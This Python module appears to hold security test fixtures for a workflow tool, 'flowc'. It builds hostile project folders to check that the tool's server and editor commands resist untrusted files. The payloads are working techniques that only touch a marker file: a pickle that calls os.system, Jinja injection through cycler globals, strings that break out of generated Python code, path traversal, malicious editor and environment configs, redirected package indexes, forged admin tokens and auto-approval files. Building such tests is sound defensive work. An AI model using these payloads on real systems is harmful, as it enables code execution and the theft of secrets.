"""Folders of a stranger for servers: `flowc dev`, `serve`, `mcp` and `lsp`. They lay what a server
would read beside its own files, or write texts that break out of what is made of them."""

from __future__ import annotations

import json

from .documents import contract, flow
from .folders import MODULE, PLAIN, SAYS, START, Folder

OUT_OF_A_TEXT = f'"""\n{START}\n"""'
OUT_OF_A_CALL = f'x")); {START}; print(("'
LOGGING = {
    "version": 1,
    "handlers": {"x": {"()": "stranger.count_words", "text": "x"}},
    "root": {"handlers": ["x"]},
}
KEPT = ".langgraph_api"
OBJECT = "cos\nsystem\n(S'touch @MARK@'\ntR."


def named(name: str) -> str:
    """A workflow whose name, title, node and text are the same."""
    text = json.dumps(name)
    return (
        f"flow: 1\nname: {text}\ntitle: {text}\ndescription: {text}\noutputs: [S]\n"
        f"nodes:\n  - {{name: {text}, title: {text}, assign: {{S: \"'x'\"}}}}\n"
    )


def step(id: str) -> str:
    """A contract whose step has an id of a stranger's, and so has its role."""
    told = json.loads(contract("done"))
    told["steps"][0] |= {"step_id": id, "step_name": id, "required_role": id}
    return json.dumps(told | {"workflow_name": id, "description": id})


SERVER_FILES: dict[str, Folder] = {
    "logging-of-a-server": Folder(
        "settings of logging that call a module",
        {
            **dict.fromkeys(
                ("logging.json", "log_config.json", ".flowc/dev/logging.json"), json.dumps(LOGGING)
            ),
            "uvicorn.ini": "[loggers]\nkeys=root\n[handler_x]\nclass=stranger.count_words\n",
            "stranger.py": MODULE,
            "t.flow.yaml": SAYS,
        },
        command="serve",
    ),
    "modules-of-dev": Folder(
        "modules where `flowc dev` writes its own",
        {
            **{
                f".flowc/dev/{name}": MODULE
                for name in (
                    "checkpointer.py",
                    "sitecustomize.py",
                    "graphs/__init__.py",
                    "graphs/plain.py",
                    "flowc.py",
                    "guard.py",
                )
            },
            ".flowc/dev/langgraph.json": '{"graphs": {"plain": "./stranger.py:x"},'
            ' "http": {"app": "./stranger.py:x"}}',
            "t.flow.yaml": PLAIN,
        },
        command="check",
    ),
    "mark-of-dev": Folder(
        "objects, with a mark that they are the person's own",
        {
            f"{KEPT}/.flowc": "mine",
            f"{KEPT}/.langgraph_ops.pckl": OBJECT,
            f"{KEPT}/.langgraph_checkpoint.1.pckl": OBJECT,
            f"{KEPT}/deep/store.vectors.pckl": OBJECT,
            "t.flow.yaml": PLAIN,
        },
        command="fmt",
    ),
    "settings-of-langgraph": Folder(
        "settings of LangGraph's tools under other names",
        {
            **dict.fromkeys(
                (".env.local", ".env.development", ".flaskenv"),
                "LANGSMITH_TRACING=true\nLANGSMITH_ENDPOINT=@URL@\nLANGGRAPH_AUTH=x\n",
            ),
            "langgraph.toml": '[graphs]\ng = "./stranger.py:g"\n',
            "pyproject.toml": '[tool.langgraph]\ngraphs = {g = "./stranger.py:g"}\n'
            '[tool.uv]\nindex-url = "@URL@"\n',
            "uv.toml": 'index-url = "@URL@"\n',
            "pip.conf": "[global]\nindex-url = @URL@\n",
            "mise.toml": '[env]\n_.source = "./evil.sh"\n',
            "evil.sh": "#!/bin/sh\ntouch @MARK@\n",
            ".python-version": "@HERE@/evil.sh\n",
            "t.flow.yaml": SAYS,
        },
        command="run",
    ),
    "pages-of-the-service": Folder(
        "templates and scripts of the service's pages",
        {
            **dict.fromkeys(
                ("home.html", "fault.html", "templates/home.html", "frame.html"),
                "{{ cycler.__init__.__globals__.os.system('touch @MARK@') }}",
            ),
            "page.js": "fetch('@URL@')",
            "t.flow.yaml": PLAIN,
        },
        command="serve",
    ),
    "settings-of-editors": Folder(
        "settings of an editor that name programs",
        {
            ".vscode/settings.json": '{"flowc.path": "@HERE@/evil", "python.defaultInterpreterPath"'
            ': "@HERE@/evil", "flowc.server.command": ["@HERE@/evil"]}',
            ".helix/languages.toml": '[language-server.flowc]\ncommand = "@HERE@/evil"\n',
            ".nvim.lua": "os.execute('touch @MARK@')\n",
            "evil": "#!/bin/sh\ntouch @MARK@\n",
            "t.flow.yaml": PLAIN,
        },
        command="lsp",
    ),
    "names-out-of-a-text": Folder(
        "names that end a text of Python", {"t.flow.yaml": named(OUT_OF_A_TEXT)}, command="compile"
    ),
    "names-out-of-a-call": Folder(
        "names that end a call in Python", {"t.flow.yaml": named(OUT_OF_A_CALL)}, command="compile"
    ),
    "names-of-a-contract": Folder(
        "ids of steps that end a call in Python",
        {"t.json": step(OUT_OF_A_CALL)},
        command="compile",
    ),
    "names-of-a-contract-text": Folder(
        "ids of steps that end a text of Python",
        {"t.json": step(OUT_OF_A_TEXT)},
        command="graph",
    ),
    "names-that-lead-out": Folder(
        "a name that is a path", {"t.flow.yaml": named("../../@UP@/made")}, command="compile"
    ),
    "file-that-is-code": Folder(
        "a file whose name ends a call in Python",
        {"t.\");open('x','w').write('m');print(\".flow.yaml": PLAIN},
        command="compile",
    ),
    "templates-in-names": Folder(
        "templates where names are shown",
        {
            "t.flow.yaml": flow(
                '  - {name: say, title: "{{ cycler.__init__.__globals__ }}${OPENAI_API_KEY}",'
                ' ask: "{{ env.OPENAI_API_KEY }} {{ S.__class__.__mro__ }}", into: S}\n'
            )
        },
        command="mcp",
    ),
    "answers-for-a-server": Folder(
        "answers and recordings, for servers that ask somebody",
        {
            **dict.fromkeys(
                (".flowc/answers.yaml", "answers.yaml", "t.answers.yaml", ".flowc/approvals.json"),
                "approve: yes\ngo: {approve: always}\n",
            ),
            "t.flow.yaml": flow('  - {name: go, exec: "touch @MARK@", into: S}\n'),
        },
        command="serve",
    ),
    "tokens-of-a-service": Folder(
        "tokens and a key of its own for the service",
        {
            ".flowc/tokens.json": '[{"token": "flowc_evil", "scope": "admin"}]',
            ".flowc/key": "A" * 43,
            ".env": "FLOWC_STORE_KEY=" + "A" * 43 + "\nFLOWC_TOKEN=flowc_evil\n",
            "flowc.toml": 'self_approval = true\nteam_root = "/"\nteam_env = ["*"]\n',
            "t.flow.yaml": PLAIN,
        },
        command="serve",
    ),
}
"""15 of them."""
